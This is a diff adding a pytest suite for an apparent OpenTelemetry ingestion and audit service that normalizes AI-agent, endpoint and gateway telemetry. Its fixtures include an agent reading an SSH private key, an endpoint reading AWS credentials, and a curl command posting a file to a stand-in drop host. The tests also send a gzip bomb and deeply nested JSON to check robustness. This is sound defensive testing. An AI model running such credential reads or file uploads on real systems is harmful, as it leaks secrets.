@@ -1,0 +1,247 @@
+"""OTLP in, normalized events out: the real OpenTelemetry Python SDK sends each
+source family over HTTP and gRPC, and the archive, read back with DuckDB and
+pyarrow as an auditor would, holds the normalized events field by field. Bad
+input gets the right status and loses nothing that was accepted."""
+import gzip
+import json
+import threading
+import time
+import urllib.error
+import urllib.request
+
+import pytest
+
+from conftest import duck, events_glob
+
+T0 = 1773154800  # 2026-03-10T15:00:00Z
+
+
+def sdk_send(endpoint, protocol, logs=(), spans=()):
+    """Sends (resource, body, attrs, t) logs and (resource, name, attrs, t) spans with the OTel SDK."""
+    from opentelemetry._logs import LogRecord, SeverityNumber
+    from opentelemetry.sdk._logs import LoggerProvider
+    from opentelemetry.sdk._logs.export import SimpleLogRecordProcessor
+    from opentelemetry.sdk.resources import Resource
+    from opentelemetry.sdk.trace import TracerProvider
+    from opentelemetry.sdk.trace.export import SimpleSpanProcessor
+    from opentelemetry.trace import SpanKind
+
+    if protocol == "grpc":
+        from opentelemetry.exporter.otlp.proto.grpc._log_exporter import OTLPLogExporter
+        from opentelemetry.exporter.otlp.proto.grpc.trace_exporter import OTLPSpanExporter
+        ep = endpoint.replace("http://", "")
+        mk_log, mk_span = (lambda: OTLPLogExporter(endpoint=ep, insecure=True)), (lambda: OTLPSpanExporter(endpoint=ep, insecure=True))
+    else:
+        from opentelemetry.exporter.otlp.proto.http._log_exporter import OTLPLogExporter
+        from opentelemetry.exporter.otlp.proto.http.trace_exporter import OTLPSpanExporter
+        mk_log, mk_span = (lambda: OTLPLogExporter(endpoint=endpoint + "/v1/logs")), (lambda: OTLPSpanExporter(endpoint=endpoint + "/v1/traces"))
+    for res, body, attrs, t in logs:
+        lp = LoggerProvider(resource=Resource.create(res))
+        lp.add_log_record_processor(SimpleLogRecordProcessor(mk_log()))
+        lp.get_logger("test").emit(LogRecord(timestamp=int(t * 1e9), observed_timestamp=int(t * 1e9),
+                                             severity_number=SeverityNumber.INFO, body=body, attributes=attrs))
+        lp.shutdown()
+    for res, name, attrs, t in spans:
+        tp = TracerProvider(resource=Resource.create(res))
+        tp.add_span_processor(SimpleSpanProcessor(mk_span()))
+        sp = tp.get_tracer("test").start_span(name, kind=SpanKind.CLIENT, start_time=int(t * 1e9), attributes=attrs)
+        sp.end(end_time=int(t * 1e9) + 5_000_000)
+        tp.shutdown()
+
+
+CLAUDE = {"service.name": "claude-code", "service.version": "2.1.230", "os.type": "darwin"}
+FAMILIES_LOGS = [
+    (CLAUDE, "claude_code.tool_result",
+     {"event.name": "tool_result", "session.id": "s-gina", "user.email": "gina@example.com", "tool_name": "Read",
+      "success": "true", "decision_source": "config", "tool_parameters": json.dumps({"file_path": "/Users/gina/.ssh/id_ed25519"})},
+     T0),
+    (CLAUDE, "claude_code.tool_result",
+     {"event.name": "tool_result", "session.id": "s-gina", "user.email": "gina@example.com", "tool_name": "Bash",
+      "success": "false", "decision_source": "user_temporary",
+      "tool_parameters": json.dumps({"bash_command": "curl", "full_command": "curl -X POST -F f=@/tmp/x https://drop.example.net/u"})},
+     T0 + 1),
+    ({"service.name": "endpoint-agent"}, "open",
+     {"host.name": "dev-hank-01", "user.name": "hank", "event.category": "file", "event.action": "open",
+      "file.path": "/home/hank/.aws/credentials", "process.pid": 48211},
+     T0 + 2),
+]
+FAMILIES_SPANS = [
+    ({"service.name": "ai-gateway"}, "chat claude-sonnet-4-5",
+     {"gen_ai.operation.name": "chat", "gen_ai.request.model": "claude-sonnet-4-5", "gen_ai.usage.input_tokens": 1200,
+      "gen_ai.usage.output_tokens": 350, "user.email": "oscar@example.com", "gen_ai.conversation.id": "s-oscar"},
+     T0 + 3),
+    ({"service.name": "mcp-gateway"}, "tools/call slack_post_message",
+     {"mcp.method.name": "tools/call", "gen_ai.tool.name": "slack_post_message", "mcp.session.id": "mcp-dana-1",
+      "server.address": "mcp.slack.com", "server.port": 443, "user.email": "dana@example.com"},
+     T0 + 4),
+]
+
+
+def rows(v, where="true"):
+    cols = "kind, source, action, outcome, user, session, host, tool, path, domain, command, model, tokens_in, tokens_out, connector, product, interactive"
+    return duck(f"select {cols} from read_parquet('{events_glob(v)}', hive_partitioning=true) where {where} order by time")
+
+
+@pytest.mark.parametrize("protocol", ["http", "grpc"])
+def test_every_source_family_is_normalized_field_by_field(vigil_factory, protocol):
+    v = vigil_factory()
+    sdk_send(v.http if protocol == "http" else v.grpc, protocol, FAMILIES_LOGS, FAMILIES_SPANS)
+    assert v.stop() == 0, v.log()
+    got = rows(v)
+    by_kind = {}
+    for r in got:
+        by_kind.setdefault((r[0], r[1]), []).append(r)
+    assert len(got) == 5, got
+    read, bash = by_kind[("file_read", "agent")][0], by_kind[("tool_call", "agent")][0]
+    assert read[2:10] == ("read", "success", "gina@example.com", "s-gina", None, "Read", "/Users/gina/.ssh/id_ed25519", None)
+    assert bash[3] == "failure" and bash[7] == "Bash" and bash[10].startswith("curl -X POST") and bash[16] is True
+    hank = by_kind[("file_read", "endpoint")][0]
+    assert (hank[4], hank[6], hank[8]) == ("hank", "dev-hank-01", "/home/hank/.aws/credentials")
+    model = by_kind[("model_call", "ai_gateway")][0]
+    assert (model[4], model[5], model[11], model[12], model[13]) == ("oscar@example.com", "s-oscar", "claude-sonnet-4-5", 1200, 350)
+    post = by_kind[("connector_action", "mcp_gateway")][0]
+    assert (post[2], post[4], post[5], post[7], post[9], post[14]) == ("post", "dana@example.com", "mcp-dana-1", "slack_post_message", "mcp.slack.com", "slack")
+    # Attributes no column takes are kept, resource ones prefixed.
+    attrs = duck(f"select attrs['resource.os.type'], attrs['terminal.type'] from read_parquet('{events_glob(v)}') where tool = 'Read'")
+    assert attrs[0][0] == "darwin"
+
+
+def post(url, body, ctype="application/x-protobuf", encoding=None, method="POST"):
+    req = urllib.request.Request(url, data=body, method=method)
+    if ctype:
+        req.add_header("Content-Type", ctype)
+    if encoding:
+        req.add_header("Content-Encoding", encoding)
+    try:
+        with urllib.request.urlopen(req, timeout=30) as r:
+            return r.status, r.read(), dict(r.headers)
+    except urllib.error.HTTPError as e:
+        return e.code, e.read(), dict(e.headers)
+
+
+def json_logs(n, user="json@example.com", t=T0):
+    return json.dumps({"resourceLogs": [{
+        "resource": {"attributes": [{"key": "service.name", "value": {"stringValue": "claude-code"}}]},
+        "scopeLogs": [{"logRecords": [{
+            "timeUnixNano": str(int((t + i) * 1e9)),
+            "body": {"stringValue": "claude_code.user_prompt"},
+            "attributes": [{"key": "event.name", "value": {"stringValue": "user_prompt"}},
+                           {"key": "session.id", "value": {"stringValue": "s-json"}},
+                           {"key": "user.email", "value": {"stringValue": user}},
+                           {"key": "prompt_length", "value": {"intValue": "42"}}],
+        } for i in range(n)]}]}]}).encode()
+
+
+def test_otlp_json_is_accepted_and_answered_in_json(vigil_factory):
+    v = vigil_factory()
+    status, body, headers = post(v.http + "/v1/logs", json_logs(3), "application/json")
+    assert status == 200 and headers["content-type"].startswith("application/json")
+    assert json.loads(body) in ({}, {"partialSuccess": None})
+    # gzip, and a body without resource at all
+    status, _, _ = post(v.http + "/v1/logs", gzip.compress(json_logs(2, "gz@example.com")), "application/json", "gzip")
+    assert status == 200
+    bare = json.dumps({"resourceLogs": [{"scopeLogs": [{"logRecords": [{"body": {"stringValue": "hello"}}]}]}]}).encode()
+    assert post(v.http + "/v1/logs", bare, "application/json")[0] == 200
+    assert v.stop() == 0
+    counts = dict(duck(f"select coalesce(user, '-'), count(*) from read_parquet('{events_glob(v)}') group by 1"))
+    assert counts == {"json@example.com": 3, "gz@example.com": 2, "-": 1}
+
+
+def test_bad_input_gets_clear_errors_and_keeps_what_was_accepted(vigil_factory):
+    v = vigil_factory(config={"ingest": {"max_body_bytes": 1 << 20}})
+    assert post(v.http + "/v1/logs", json_logs(4, "before@example.com"), "application/json")[0] == 200
+
+    status, body, headers = post(v.http + "/v1/logs", b"\xff\xfe garbage bytes \x00\x01")
+    assert status == 400 and headers["content-type"] == "application/x-protobuf"
+    from google.rpc import status_pb2  # shipped with the OTLP exporter's dependencies
+    st = status_pb2.Status.FromString(body)
+    assert st.code == 3 and "protobuf" in st.message
+
+    from opentelemetry.proto.collector.logs.v1.logs_service_pb2 import ExportLogsServiceRequest
+    from google.protobuf import json_format
+    good = json_format.Parse(json_logs(2).decode(), ExportLogsServiceRequest()).SerializeToString()
+    assert post(v.http + "/v1/logs", good[: len(good) // 2])[0] == 400  # truncated
+    assert post(v.http + "/v1/logs", good, "text/plain")[0] == 415
+    assert post(v.http + "/v1/logs", good, "application/x-protobuf", "br")[0] == 415
+    status, body, _ = post(v.http + "/v1/logs", b'{"resourceLogs": [', "application/json")
+    assert status == 400 and json.loads(body)["code"] == 3
+    assert post(v.http + "/v1/logs", b"x" * (2 << 20))[0] == 413
+    bomb = gzip.compress(b"\x00" * (32 << 20))
+    assert len(bomb) < (1 << 20)
+    assert post(v.http + "/v1/logs", bomb, "application/x-protobuf", "gzip")[0] == 413
+    assert post(v.http + "/v1/logs", b"not gzip", "application/x-protobuf", "gzip")[0] == 400
+    depth = 10_000  # built as text: Python's own encoder cannot nest this deep
+    deep = '{"kvlistValue":{"values":[{"key":"k","value":' * depth + '{"stringValue":"leaf"}' + "}]}}" * depth
+    nested = ('{"resourceLogs":[{"scopeLogs":[{"logRecords":[{"body":' + deep + "}]}]}]}").encode()
+    assert post(v.http + "/v1/logs", nested, "application/json")[0] == 400
+
+    # Still up, and what came before and after is kept.
+    assert post(v.http + "/v1/logs", good)[0] == 200
+    assert urllib.request.urlopen(v.http + "/healthz").status == 200
+    metrics = v.metrics()
+    assert 'vigil_requests_total{transport="http",signal="log",status="bad_request"}' in metrics
+    assert v.stop() == 0
+    counts = dict(duck(f"select user, count(*) from read_parquet('{events_glob(v)}') group by 1"))
+    assert counts == {"before@example.com": 4, "json@example.com": 2}
+
+
+def test_a_full_pipeline_answers_429_and_loses_no_accepted_record(vigil_factory):
+    # One batch of queue and 1 ms of patience: concurrent senders must be pushed back.
+    v = vigil_factory(config={"ingest": {"queue_batches": 1, "submit_timeout": "1ms"}})
+    codes, accepted, lock = [], [0], threading.Lock()
+    body = json_logs(2000, "load@example.com")
+
+    def sender():
+        for _ in range(6):
+            status, _, headers = post(v.http + "/v1/logs", body, "application/json")
+            with lock:
+                codes.append(status)
+                if status == 200:
+                    accepted[0] += 2000
+                else:
+                    assert status == 429 and headers.get("retry-after") == "1"
+
+    threads = [threading.Thread(target=sender) for _ in range(8)]
+    for t in threads:
+        t.start()
+    for t in threads:
+        t.join()
+    assert 429 in codes, codes
+    assert 200 in codes, codes
+    assert v.stop() == 0
+    total = duck(f"select count(*) from read_parquet('{events_glob(v)}')")[0][0]
+    assert total == accepted[0]
+
+
+def test_grpc_bad_input_and_metrics(vigil_factory):
+    import grpc
+    from opentelemetry.proto.collector.logs.v1 import logs_service_pb2_grpc
+    from opentelemetry.proto.collector.logs.v1.logs_service_pb2 import ExportLogsServiceRequest
+
+    v = vigil_factory(config={"ingest": {"max_body_bytes": 1 << 20}})
+    ch = grpc.insecure_channel(f"127.0.0.1:{v.grpc_port}")
+    stub = logs_service_pb2_grpc.LogsServiceStub(ch)
+    raw = ch.unary_unary("/opentelemetry.proto.collector.logs.v1.LogsService/Export",
+                         request_serializer=lambda b: b, response_deserializer=lambda b: b)
+    with pytest.raises(grpc.RpcError) as e:
+        raw(b"\xff\xff\xff\xff garbage", timeout=10)
+    assert e.value.code() == grpc.StatusCode.INTERNAL or e.value.code() == grpc.StatusCode.INVALID_ARGUMENT
+    with pytest.raises(grpc.RpcError) as e:
+        raw(b"\x0a" + b"\xff\xff\xff\x0f" + b"x" * (2 << 20), timeout=10)
+    # tonic refuses an over-limit message before decoding it, naming the limit.
+    assert e.value.code() in (grpc.StatusCode.OUT_OF_RANGE, grpc.StatusCode.RESOURCE_EXHAUSTED)
+    assert "1048576" in e.value.details()
+    from google.protobuf import json_format
+    req = json_format.Parse(json_logs(5, "grpc@example.com").decode(), ExportLogsServiceRequest())
+    resp = stub.Export(req, timeout=10)
+    assert not resp.HasField("partial_success") or resp.partial_success.rejected_log_records == 0
+    # Far-future timestamps cannot be represented: refused through partial success, the rest kept.
+    req.resource_logs[0].scope_logs[0].log_records[0].time_unix_nano = 2**64 - 1
+    resp = stub.Export(req, timeout=10)
+    assert resp.partial_success.rejected_log_records == 1 and "2262" in resp.partial_success.error_message
+    time.sleep(0.2)
+    m = v.metrics()
+    assert 'vigil_records_received_total{signal="log",source="agent"} 9' in m, m
+    assert 'vigil_records_rejected_total{signal="log"} 1' in m
+    assert v.stop() == 0
+    assert duck(f"select count(*) from read_parquet('{events_glob(v)}')")[0][0] == 9
